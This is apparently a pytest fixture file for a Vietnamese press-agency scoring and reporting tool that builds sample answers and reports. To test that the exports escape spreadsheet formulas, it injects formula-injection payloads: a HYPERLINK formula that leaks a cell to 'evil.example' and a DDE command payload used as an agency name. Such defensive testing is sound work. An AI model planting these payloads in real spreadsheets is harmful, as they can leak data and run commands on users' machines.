"""Reports built once per test session from the real questionnaire, the shipped examples when present
and hand-made answers otherwise (so the tests run while the examples are still being written)."""

from __future__ import annotations

import io
import unicodedata
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader

from reports.data import (
    AgencyReport,
    AgencyRow,
    ProvinceReport,
    agency_report_from_answers,
    agency_row_from_answers,
    aggregate_rows,
    province_report_from_rows,
)
from scoring.answers import Answer, AnswerError, Evidence, load_answer_file
from scoring.catalog import Catalog
from scoring.models import QuestionType
from tests.conftest import present
from tests.reports.fixtures import real_catalog, synthetic_answers

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
YEAR = 2025
INJECTED_TEXT = '=HYPERLINK("http://evil.example/?leak="&A1,"bấm vào đây")'
INJECTED_NOTE = "@SUM(1)"
INJECTED_NA = "-2+3 (không có)"


def profile(kind: str, media: list[str], online: bool, *, staff: int = 40, trained: int = 20,
            finance: str = "group3", relicensed: bool = True) -> dict[str, Any]:
    p: dict[str, Any] = {"agency_type": kind, "media_types": media, "has_electronic_outlet": "yes" if online else "no",
                         "staff_total": staff, "staff_leaders": 4, "staff_trained": trained,
                         "self_financing": finance, "state_ordered": "yes"}
    if "print" in media:
        p.update(print_circulation_urban=3000, print_circulation_rural=1500)
    if online:
        p.update(digital_ip_urban=20000, digital_ip_rural=9000)
    if kind == "magazine":
        p["magazine_licence_status"] = "relicensed" if relicensed else "in_progress"
    return p


@dataclass(frozen=True)
class Sample:
    agency_id: str
    name: str
    status: str
    answers: dict[str, Answer] | None
    previous: dict[str, Answer] | None


def _synthetic(cat: Catalog) -> list[Sample]:
    specs = [
        ("bao-vinh-long", "Báo Vĩnh Long", "submitted", 0.7, profile("newspaper", ["print", "online"], True,
                                                                     finance="group2")),
        ("dai-ptth-vinh-long", "Đài Phát thanh và Truyền hình Vĩnh Long", "submitted", 0.97,
         profile("radio_tv", ["radio", "tv", "online"], True, staff=80, trained=80, finance="group2")),
        ("tap-chi-van-nghe", "Tạp chí Văn nghệ Cửu Long", "submitted", 0.3,
         profile("magazine", ["print"], False, staff=12, trained=3, finance="group4")),
        ("bao-dong-khoi", "Báo Đồng Khởi", "returned", 0.5, profile("newspaper", ["print", "online"], True)),
        ("tap-chi-khoa-hoc", "Tạp chí Khoa học và Công nghệ", "draft", 0.4,
         profile("magazine", ["print", "online"], True, relicensed=False)),
    ]
    out = [Sample(aid, name, status, synthetic_answers(cat, s, prof), synthetic_answers(cat, s / 2, prof))
           for aid, name, status, s, prof in specs]
    out.append(Sample("bao-tra-vinh", "Báo Trà Vinh", "not_started", None, None))
    return out


# Statuses given to the example agencies, so the exports meet every case: counted, sent back, unfinished.
EXAMPLE_STATUS = {3: "returned", 4: "draft"}


def load_examples(cat: Catalog, year: int) -> dict[str, tuple[str, dict[str, Answer]]]:
    """The example answer files of one year (agency id → name, answers); empty if they do not load."""
    out = {}
    for path in sorted(EXAMPLES.glob(f"{year}/*.yaml")):
        try:
            af = load_answer_file(cat.questionnaire, path)
        except AnswerError:
            return {}
        out[af.agency_id] = (af.agency_name, af.answers)
    return out


def _examples(cat: Catalog) -> list[Sample]:
    now, before = load_examples(cat, YEAR), load_examples(cat, YEAR - 1)
    if not now:
        return []
    out = [Sample(aid, name, EXAMPLE_STATUS.get(k, "submitted"), answers, before.get(aid, (name, None))[1])
           for k, (aid, (name, answers)) in enumerate(now.items())]
    out.append(Sample("bao-tra-vinh", "Báo Trà Vinh", "not_started", None, None))
    return out


@pytest.fixture(scope="session")
def catalog(tmp_path_factory: pytest.TempPathFactory) -> Catalog:
    return real_catalog(tmp_path_factory.mktemp("questionnaires"))


@pytest.fixture(scope="session")
def samples(catalog: Catalog) -> list[Sample]:
    return _examples(catalog) or _synthetic(catalog)


def injected(cat: Catalog, answers: dict[str, Answer]) -> dict[str, Answer]:
    """The same answers with formula-looking text in a text answer, an evidence note and an N/A reason."""
    qn = cat.questionnaire
    out = dict(answers)
    text_q = next(q for q in qn.questions.values() if q.type == QuestionType.TEXT)
    out[text_q.id] = Answer(value=INJECTED_TEXT)
    ev_q = next(q for qid, q in qn.questions.items() if qid in out and out[qid].answered
                and qn.question_file[qid] != "profile" and q.type != QuestionType.TEXT)
    out[ev_q.id] = Answer(value=out[ev_q.id].value, evidence=Evidence(note=INJECTED_NOTE))
    na_q = next((q for q in qn.questions.values() if q.na_allowed and q.id != ev_q.id), None)
    if na_q is not None:
        out[na_q.id] = Answer(na_reason=INJECTED_NA)
    return out


@pytest.fixture(scope="session")
def agency_report(catalog: Catalog, samples: list[Sample]) -> AgencyReport:
    s = samples[0]
    assert s.answers is not None
    return agency_report_from_answers(
        catalog, s.agency_id, s.name, YEAR, injected(catalog, s.answers), s.previous,
        department_name=catalog.site.department.get("vi"), province_name=catalog.site.province.get("vi"),
        generated_at=datetime(2025, 11, 20, 9, 30))


@pytest.fixture(scope="session")
def strong_report(catalog: Catalog) -> AgencyReport:
    """An agency at the top level, so "Xuất sắc" is printed as text, not only inside the chart image."""
    answers = synthetic_answers(catalog, 1.0, profile("radio_tv", ["radio", "tv", "online"], True, staff=50,
                                                      trained=50, finance="group1"))
    return agency_report_from_answers(catalog, "dai-ptth", "Đài Phát thanh và Truyền hình Vĩnh Long", YEAR, answers,
                                      department_name=catalog.site.department.get("vi"),
                                      province_name=catalog.site.province.get("vi"))


def rows_for(catalog: Catalog, samples: list[Sample], year: int) -> list[AgencyRow]:
    out = []
    for k, s in enumerate(samples):
        out.append(agency_row_from_answers(
            catalog, s.agency_id, s.name, year, s.answers, status=s.status,
            submitted_at=datetime(year, 11, 10 + k, 8, 0) if s.status == "submitted" else None,
            previous_index=None if s.answers is None else 30.0 + 5 * k))
    return out


@pytest.fixture(scope="session")
def province_report(catalog: Catalog, samples: list[Sample]) -> ProvinceReport:
    rows = rows_for(catalog, samples, YEAR)
    # One agency whose name and answers look like formulas, to prove the province exports escape them too.
    first = next(s for s in samples if s.answers is not None)
    rows.append(agency_row_from_answers(catalog, "evil", "=cmd|' /C calc'!A0", YEAR,
                                        injected(catalog, present(first.answers)), status="submitted"))
    plan = catalog.plan()
    history = {}
    for year in (YEAR - 2, YEAR - 1):
        files = load_examples(catalog, year)
        past = [agency_row_from_answers(catalog, aid, name, year, answers) for aid, (name, answers) in files.items()]
        if not past:  # no examples: last year's hand-made answers stand in for both past years
            past = [agency_row_from_answers(catalog, s.agency_id, s.name, year, s.previous)
                    for s in samples if s.previous is not None]
        history[year] = aggregate_rows(plan, year, past)
    return province_report_from_rows(catalog, YEAR, rows, history=history,
                                     department_name=catalog.site.department.get("vi"),
                                     province_name=catalog.site.province.get("vi"),
                                     generated_at=datetime(2025, 11, 26, 14, 0))


def pdf_pages(data: bytes) -> list[str]:
    """Each page's text, NFC-normalised so a test compares letters, not the way they were encoded."""
    reader = PdfReader(io.BytesIO(data))
    return [unicodedata.normalize("NFC", page.extract_text() or "") for page in reader.pages]


def squash(text: str) -> str:
    """Text with all runs of white space made one space: a wrapped phrase still matches."""
    return " ".join(text.split())
